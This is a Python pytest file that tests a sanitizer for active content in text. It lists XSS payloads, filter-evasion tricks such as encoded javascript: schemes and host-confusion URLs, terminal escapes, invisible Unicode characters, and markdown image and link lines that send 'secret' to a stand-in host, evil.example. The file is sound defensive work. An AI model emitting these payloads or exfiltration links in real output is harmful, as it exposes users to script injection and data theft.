"""Markup, images, links of strangers and hidden signs: found, and taken out."""

import pytest

from harness.guards.active_content import ActiveContent

HOSTS = ["feeds.example.org"]
ACTIVE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "text <IMG SRC='//evil.example/a.png'",
    "<a href='https://evil.example'>here</a>",
    "<!-- hidden -->",
    "![logo](https://evil.example/?q=secret)",
    "! [logo][1]",
    "[click](https://evil.example/?q=secret)",
    "see https://evil.example/?q=secret",
    "see HTTPS:\\\\evil.example\\x",
    "[click](//evil.example/x)",
    "www.evil.example/x",
    "https://feeds.example.org@evil.example/",
    "https://feeds.example.org.evil.example/",
    "[click](javascript:alert(1))",
    "data:text/html;base64,AAAA",
    "red \x1b[31mtext",
    "zero\u200bwidth",
    "right \u202eto left",
    "tag \U000e0041",
    "[click](&#106;avascript:alert(1))",
    "[click](&amp;#106;avascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](vbscript:x)",
    "[click](https:evil.example/x)",
    "[click](https:/evil.example/x)",
    "[click](https&#58;//evil.example/x)",
    "[click](&#47;/evil.example/x)",
    "[click](/\\evil.example/x)",
    "[click][a]\n\n[a]: //evil.example/x",
    "<https://evil.example/x>",
    "![x](data:image/png;base64,AAAA)",
    "data:,Hello",
    "ws://evil.example/x and app+x://evil.example",
    "\x1b]8;;https://evil.example\x07here\x1b]8;;\x07",
    "\u009b31m",
    "\u2066isolated\u2069",
]
HARMLESS = [
    "It is 18.4 °C; 3 < 5 and 7 > 2.",
    "Either/or, and 24/7, at 10:30.",
    "Read it at https://feeds.example.org/a?b=c.",
    "[the feed](https://feeds.example.org/a)",
    "¡Qué calor! [aviso]",
    "Line one\nline two\tand a family: 👨‍👩‍👧",
    "The data: 18 degrees, data:18, metadata: none.",
    "JavaScript: a language (good), javascript: the same",
    "AT&T, R&D; 5 &amp; 6",
    "",
]


@pytest.mark.checklist("INJ-3")
@pytest.mark.parametrize("text", ACTIVE)
def test_what_acts_by_itself_is_found_and_taken_out(text: str) -> None:
    active = ActiveContent(HOSTS)
    assert active.is_present(text)
    assert not active.is_present(active.removed(f"before {text} after"))
    assert active.removed(f"before {text} after").startswith("before ")


@pytest.mark.parametrize("text", HARMLESS)
def test_plain_text_passes_and_stays_as_it_is(text: str) -> None:
    active = ActiveContent(HOSTS)
    assert not active.is_present(text)
    assert active.removed(text) == text


def test_markup_within_markup_takes_no_longer_the_deeper_it_is() -> None:
    depth = 100_000
    assert "<" not in ActiveContent().removed("<b" * depth + ">" * depth)


def test_what_is_left_of_markup_is_no_markup() -> None:
    assert not ActiveContent().is_present(ActiveContent().removed("<scr<b>ipt>alert(1)</scr</b>ipt>"))


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://A.example/x", "a.example"),
        ("//a.example", "a.example"),
        ("www.a.example/x", "www.a.example"),
        ("https:\\\\a.example\\x", "a.example"),
        ("https://user@a.example:99/", "a.example"),
        ("https://[broken", ""),
    ],
)
def test_the_host_of_an_address(url: str, host: str) -> None:
    assert ActiveContent.host(url) == host


@pytest.mark.parametrize(
    "text",
    [
        "One\r\ntwo",
        "a soft\u00adhyphen",
        "to the right\u200e and the left\u200f",
        "\ufeffa mark of the byte order",
        "England: \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    ],
)
def test_signs_that_people_write_are_not_active(text: str) -> None:
    assert not ActiveContent().is_present(text)
